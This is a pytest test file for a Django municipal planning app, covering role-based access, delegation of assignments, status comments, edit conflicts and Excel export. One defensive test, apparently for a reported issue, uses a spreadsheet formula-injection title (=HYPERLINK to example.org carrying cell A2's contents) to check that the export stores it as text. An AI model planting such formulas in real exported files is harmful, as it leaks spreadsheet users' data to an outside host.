import datetime

import pytest
from django.core import mail
from django.urls import reverse

from alver.lib import klokke
from tests.hjelp import alle_les, berre, tal_sporjingar
from verksemdsplan.models import Kategori, Milepael, Oppdrag

EIGARAR = {"administrator": 200, "kommunedirektor": 200, "kommunalsjef": 200}
SEKRETARIAT = {"administrator": 200, "sekretariat": 200}

MATRIX = (
    alle_les("verksemdsplan:oppdrag_liste", politikar=404)
    + alle_les("oppdrag:vis", politikar=404)
    + berre("oppdrag:endre", EIGARAR | {"politikar": 404})
    + berre("milepael:endre", EIGARAR | {"politikar": 404})
    + alle_les("budget:vedtak_liste")
    + alle_les("vedtak:vis")
    + berre("budget:mote_ny", SEKRETARIAT)
    + berre("vedtak:endre", SEKRETARIAT)
    + alle_les("reporting:mi_side")
    + berre("verksemdsplan:utan_eigar", {"administrator": 200, "kommunedirektor": 200, "politikar": 404})
)


def _url(namn, oppdrag):
    kind, _, kva = namn.partition(":")
    if kind == "milepael":
        m = Milepael.objects.create(oppdrag=oppdrag, tittel="Forprosjekt", dato=datetime.date(2026, 6, 1))
        return reverse("verksemdsplan:milepael_endre", args=[oppdrag.pk, m.pk])
    if kind == "oppdrag":
        return reverse(
            {"vis": "verksemdsplan:oppdrag", "endre": "verksemdsplan:oppdrag_endre"}[kva], args=[oppdrag.pk]
        )
    if kind == "vedtak":
        return reverse(
            {"vis": "budget:vedtak", "endre": "budget:vedtak_endre"}[kva], args=[oppdrag.kjelde_vedtak_id]
        )
    return reverse(namn)


@pytest.mark.parametrize("namn,rolle,status", MATRIX)
def test_access(namn, rolle, status, oppdrag, client_as):
    assert client_as(rolle).get(_url(namn, oppdrag)).status_code == status


# Marking a verksemdsplan done (POST): the kommune's own plan is the kommunedirektør's, not
# every kommunalsjef's (they help write the overordna letter, which is another right); a
# unit's plan is its leader's and the leaders' above it.
FERDIG_MATRIX = [
    ("kommune", "anonymous", 302),
    ("kommune", "administrator", 302),
    ("kommune", "kommunedirektor", 302),
    ("kommune", "kommunalsjef", 403),
    ("kommune", "tenesteleiar", 403),
    ("kommune", "hr", 403),
    ("kommune", "medarbeidar", 403),
    ("kommune", "politikar", 404),
    ("skule", "tenesteleiar", 302),
    ("skule", "kommunalsjef", 302),
    ("skule", "kommunedirektor", 302),
    ("skule", "medarbeidar", 403),
    ("skule", "utanfor", 403),
    ("oppvekst", "kommunalsjef", 302),
    ("oppvekst", "tenesteleiar", 403),
]


@pytest.mark.parametrize("eining,rolle,status", FERDIG_MATRIX)
def test_marking_the_business_plan_done(eining, rolle, status, org, client_as):
    from verksemdsplan.models import Verksemdsplan

    e = org["einingar"][eining]
    c = client_as(rolle)
    assert c.post(reverse("verksemdsplan:ferdig", args=[2026, e.kode])).status_code == status
    ferdig = Verksemdsplan.objects.filter(eining=e, aar=2026, ferdig_at__isnull=False).exists()
    assert ferdig is (status == 302 and rolle != "anonymous")
    if rolle != "anonymous" and status != 404:
        # the button shows exactly to those who may press it
        html = c.get(reverse("verksemdsplan:side", args=[2026, e.kode])).content.decode()
        assert ("Merk verksemdsplanen som" in html or "Merk som ikkje ferdig" in html) is ferdig


@pytest.mark.parametrize(
    "namn",
    [
        "verksemdsplan:deleger",
        "verksemdsplan:trekk",
        "budget:vedtak_trekk",
        "verksemdsplan:milepael_ny",
        "verksemdsplan:milepael_ferdig",
        "verksemdsplan:milepael_slett",
    ],
)
def test_changing_views_are_post_only(namn, oppdrag, client_as):
    pk = oppdrag.kjelde_vedtak_id if namn.startswith("budget") else oppdrag.pk
    args = [pk]
    if namn in ("verksemdsplan:milepael_ferdig", "verksemdsplan:milepael_slett"):
        args.append(Milepael.objects.create(oppdrag=oppdrag, tittel="M", dato=datetime.date(2026, 6, 1)).pk)
    assert client_as("administrator").get(reverse(namn, args=args)).status_code == 405


def test_delegation_gives_rights_over_the_child_only(
    org, oppdrag, client_as, django_capture_on_commit_callbacks
):
    tenesteleiar = org["brukarar"]["tenesteleiar"]
    mail.outbox.clear()
    with django_capture_on_commit_callbacks(execute=True):
        response = client_as("kommunalsjef").post(
            reverse("verksemdsplan:deleger", args=[oppdrag.pk]),
            {"til": tenesteleiar.pk, "frist": "2026-11-01", "notat": "Ta det"},
        )
    assert response.status_code == 302
    barn = oppdrag.born.get()
    assert barn.owner == tenesteleiar and barn.eining == org["einingar"]["skule"]
    assert [m.to for m in mail.outbox] == [[tenesteleiar.email]]
    c = client_as("tenesteleiar")
    assert c.get(reverse("verksemdsplan:oppdrag_endre", args=[barn.pk])).status_code == 200
    assert c.get(reverse("verksemdsplan:oppdrag_endre", args=[oppdrag.pk])).status_code == 403
    # the delegate sets a status with a comment; the parent's page shows it
    c.post(
        reverse("verksemdsplan:oppdrag_endre", args=[barn.pk]),
        {
            "frist": "2026-11-01",
            "status": "forseinka",
            "status_kommentar": "Ventar på fylket",
            "versjon": barn.versjon,
        },
    )
    html = client_as("kommunalsjef").get(oppdrag.get_absolute_url()).content.decode()
    assert "Forseinka – Ventar på fylket" in html
    # withdrawing keeps the child and its history, and takes the right away
    client_as("kommunalsjef").post(reverse("verksemdsplan:trekk", args=[barn.pk]))
    barn.refresh_from_db()
    assert barn.trekt_at is not None
    assert c.get(reverse("verksemdsplan:oppdrag_endre", args=[barn.pk])).status_code == 403


def test_a_child_deadline_after_the_parents_is_refused(org, oppdrag, client_as):
    response = client_as("kommunalsjef").post(
        reverse("verksemdsplan:deleger", args=[oppdrag.pk]),
        {"til": org["brukarar"]["tenesteleiar"].pk, "frist": "2027-01-10"},
        follow=True,
    )
    assert (
        "Fristen kan ikkje vere etter fristen til oppdraget (1. desember 2026)" in response.content.decode()
    )
    assert not oppdrag.born.exists()


def test_delayed_needs_a_comment_and_open_children_block_completion(org, oppdrag, client_as):
    from verksemdsplan import services

    c = client_as("kommunalsjef")
    url = reverse("verksemdsplan:oppdrag_endre", args=[oppdrag.pk])
    response = c.post(url, {"frist": "2026-12-01", "status": "forseinka", "versjon": oppdrag.versjon})
    assert "Skriv ein kommentar" in response.content.decode()
    services.deleger(
        oppdrag,
        til=org["brukarar"]["tenesteleiar"],
        frist=None,
        notat="",
        user=org["brukarar"]["kommunalsjef"],
    )
    response = c.post(url, {"frist": "2026-12-01", "status": "fullfort", "versjon": oppdrag.versjon})
    assert "1 delegerte oppgåver er framleis opne" in response.content.decode()
    assert Oppdrag.objects.get(pk=oppdrag.pk).status == Oppdrag.Status.IKKJE_STARTA
    response = c.post(
        url,
        {
            "frist": "2026-12-01",
            "status": "fullfort",
            "overstyr": "on",
            "status_kommentar": "Resten går inn i drifta",
            "versjon": oppdrag.versjon,
        },
    )
    assert response.status_code == 302
    assert Oppdrag.objects.get(pk=oppdrag.pk).status == Oppdrag.Status.FULLFORT


def test_a_concurrent_edit_is_refused(org, oppdrag, client_as):
    url = reverse("verksemdsplan:oppdrag_endre", args=[oppdrag.pk])
    a, b = client_as("kommunalsjef"), client_as("kommunedirektor")
    assert (
        a.post(url, {"frist": "2026-12-01", "status": "i_gang", "versjon": oppdrag.versjon}).status_code
        == 302
    )
    response = b.post(url, {"frist": "2026-10-01", "status": "ikkje_starta", "versjon": oppdrag.versjon})
    assert "Nokon andre lagra dette medan du skreiv" in response.content.decode()
    assert Oppdrag.objects.get(pk=oppdrag.pk).status == Oppdrag.Status.I_GANG


def _mange(org, oppdrag, n):
    Oppdrag.objects.bulk_create(
        [
            Oppdrag(
                verksemdsplan=oppdrag.verksemdsplan,
                aar=2026,
                tittel=f"Oppdrag {i}",
                kategori=Kategori.objects.first(),
                eining=org["einingar"]["oppvekst"],
                owner=org["brukarar"]["kommunalsjef"],
                frist=datetime.date(2026, 1 + i % 12, 10),
                parent=oppdrag if i % 3 == 0 else None,
            )
            for i in range(n)
        ],
        batch_size=1000,
    )


@pytest.mark.parametrize(
    "url", ["/mi-side/", "/oppdrag/", "/oppdrag/?eigar=meg&over_fristen=1&sorter=eining"]
)
def test_query_count_is_the_same_for_50_and_5000_oppdrag(url, org, oppdrag, client_as):
    c = client_as("kommunalsjef")
    _mange(org, oppdrag, 49)
    liten = tal_sporjingar(c, url)
    _mange(org, oppdrag, 4950)
    assert Oppdrag.objects.count() == 5000
    assert tal_sporjingar(c, url) == liten


def test_excel_export_holds_the_filtered_list(org, oppdrag, client_as):
    import io

    from openpyxl import load_workbook

    _mange(org, oppdrag, 5)
    Oppdrag.objects.filter(tittel="Oppdrag 0").update(status=Oppdrag.Status.FULLFORT)
    response = client_as("medarbeidar").get(reverse("verksemdsplan:oppdrag_eksport") + "?status=fullfort")
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    rader = list(load_workbook(io.BytesIO(response.content)).active.iter_rows(values_only=True))
    assert rader[0][:3] == ("Tittel", "Kategori", "Eining")
    assert [r[0] for r in rader[1:]] == ["Oppdrag 0"]
    assert client_as("politikar").get(reverse("verksemdsplan:oppdrag_eksport")).status_code == 404


def test_the_export_writes_a_formula_like_title_as_text_never_as_a_formula(oppdrag, client_as):
    """A title typed as an Excel formula would run when the workbook is opened (issue 18)."""
    import io

    from openpyxl import load_workbook

    oppdrag.tittel = '=HYPERLINK("https://example.org/?"&A2,"Klikk")'
    oppdrag.status_kommentar = "+47 999 99 999"
    oppdrag.save()
    response = client_as("medarbeidar").get(reverse("verksemdsplan:oppdrag_eksport"))
    ark = load_workbook(io.BytesIO(response.content)).active
    rad = next(r for r in ark.iter_rows(min_row=2) if r[0].value == oppdrag.tittel)
    assert rad[0].data_type == "s"  # "f" would be a formula
    assert rad[6].value == "+47 999 99 999" and rad[6].data_type == "s"


def test_filters_by_theme_goal_and_owner_and_the_goal_page_reads_down_the_thread(org, oppdrag, client_as):
    from plans.models import Maal, Plan, Plantype
    from verksemdsplan.models import Tema

    plan = Plan.objects.create(
        tittel="Samfunnsdel",
        type=Plantype.objects.get(kode="samfunnsdel"),
        periode_fra=2024,
        periode_til=2035,
        status="vedtatt",
        vedtatt_dato="2024-01-01",
        ansvarleg_eining=org["einingar"]["kommune"],
    )
    maal = Maal.objects.create(plan=plan, tittel="Trygg oppvekst")
    oppdrag.maal.set([maal])
    oppdrag.tema = Tema.objects.get(kode="strategiske")
    oppdrag.save()
    _mange(org, oppdrag, 3)
    c = client_as("medarbeidar")
    url = reverse("verksemdsplan:oppdrag_liste")
    for query in [
        "?tema=strategiske",
        f"?maal={maal.pk}",
        f"?eigar={org['brukarar']['kommunalsjef'].pk}&tema=strategiske",
    ]:
        html = c.get(url + query).content.decode()
        assert "1 oppdrag" in html and "Betre skulevegar" in html, query
    html = c.get(maal.get_absolute_url()).content.decode()
    assert "Betre skulevegar" in html


def test_leaders_see_what_lacks_a_goal_link_in_their_units(org, oppdrag, client_as):
    # the oppdrag belongs to Oppvekst and has no goal link
    assert (
        "Manglar kopling til mål i einingane dine"
        in client_as("kommunalsjef").get("/mi-side/").content.decode()
    )
    html = client_as("kommunedirektor").get("/mi-side/").content.decode()
    assert "Manglar kopling til mål i einingane dine" in html and "Betre skulevegar" in html
    assert (
        "Manglar kopling til mål i einingane dine"
        not in client_as("medarbeidar").get("/mi-side/").content.decode()
    )


def test_delegating_twice_to_the_same_person_is_refused(org, oppdrag, client_as):
    c = client_as("kommunalsjef")
    url = reverse("verksemdsplan:deleger", args=[oppdrag.pk])
    c.post(url, {"til": org["brukarar"]["tenesteleiar"].pk})
    svar = c.post(url, {"til": org["brukarar"]["tenesteleiar"].pk}, follow=True)
    assert oppdrag.born.count() == 1
    assert "har allereie fått dette oppdraget delegert" in svar.content.decode()


def test_a_failed_delegation_keeps_what_was_typed_with_the_message_by_its_field(org, oppdrag, client_as):
    c = client_as("kommunalsjef")
    url = reverse("verksemdsplan:deleger", args=[oppdrag.pk])
    svar = c.post(
        url,
        {
            "til": org["brukarar"]["tenesteleiar"].pk,
            "frist": "2027-06-01",
            "notat": "Sjå på skulevegane i nord",
        },
    )
    # the deadline is after the oppdrag's own: the page comes back with the note and the choice kept
    assert svar.status_code == 200 and not oppdrag.born.exists()
    form = svar.context["deleger_form"]
    assert "frist" in form.errors
    html = svar.content.decode()
    assert "Sjå på skulevegane i nord" in html and 'class="ds-error-summary"' in html
    assert 'href="#id_frist"' in html


def test_a_new_delayed_or_cancelled_status_needs_its_own_comment(org, oppdrag, client_as):
    c = client_as("kommunalsjef")
    url = reverse("verksemdsplan:oppdrag_endre", args=[oppdrag.pk])
    data = {"frist": "2026-12-01", "status": "forseinka", "status_kommentar": "Ventar på fylket"}
    c.post(url, data | {"versjon": oppdrag.versjon})
    oppdrag.refresh_from_db()
    svar = c.post(url, data | {"status": "avbrote", "versjon": oppdrag.versjon})
    # the error sits on the comment field, and nothing is saved
    assert "status_kommentar" in svar.context["form"].errors
    oppdrag.refresh_from_db()
    assert oppdrag.status == "forseinka"


def test_the_change_log_names_linked_goals(org, oppdrag, client_as):
    from plans.models import Maal
    from tests.plans.conftest import lag_plan

    maal = Maal.objects.create(plan=lag_plan(org["einingar"]["kommune"]), tittel="Trygg oppvekst")
    oppdrag.maal.add(maal)
    html = client_as("medarbeidar").get(oppdrag.get_absolute_url()).content.decode()
    assert "Trygg oppvekst" in html and "{&#x27;oppdrag&#x27;" not in html and "{'oppdrag'" not in html


def test_politicians_are_not_offered_the_administrations_lists(client_as):
    html = client_as("politikar").get("/mi-side/").content.decode()
    assert 'href="/oppdrag/"' not in html and 'href="/verksemdsplan/"' not in html
    assert 'href="/oppdrag/"' in client_as("medarbeidar").get("/mi-side/").content.decode()


def test_mi_side_shows_what_is_new_to_me(org, oppdrag, client_as):
    import datetime as dt

    gammalt = Oppdrag.objects.create(
        verksemdsplan=oppdrag.verksemdsplan,
        aar=2026,
        tittel="Gammalt oppdrag",
        kategori=oppdrag.kategori,
        eining=oppdrag.eining,
        owner=oppdrag.owner,
    )
    Oppdrag.objects.filter(pk=gammalt.pk).update(created_at=klokke.no() - dt.timedelta(days=40))
    nye = client_as("kommunalsjef").get("/mi-side/").context["nye"]
    assert [o.tittel for o in nye["rader"]] == ["Betre skulevegar"] and nye["tal"] == 1


@pytest.mark.parametrize(
    "url",
    [
        "/verksemdsplan/?aar=²",
        "/oppdrag/?aar=²&maal=99999999999999999999&eigar=²",
        "/oppdrag/ny/?aar=²",
        "/oppdragsbrev/?aar=²",
    ],
)
def test_odd_numbers_in_the_address_are_ignored_not_errors(url, org, client_as):
    assert client_as("kommunedirektor").get(url).status_code == 200


@pytest.mark.parametrize(
    "url", ["/verksemdsplan/0/2000/", "/oppdragsbrev/10000/1000/", "/oppdragsbrev/0/1000.pdf"]
)
def test_years_out_of_range_are_404(url, org, client_as):
    assert client_as("kommunedirektor").get(url).status_code == 404
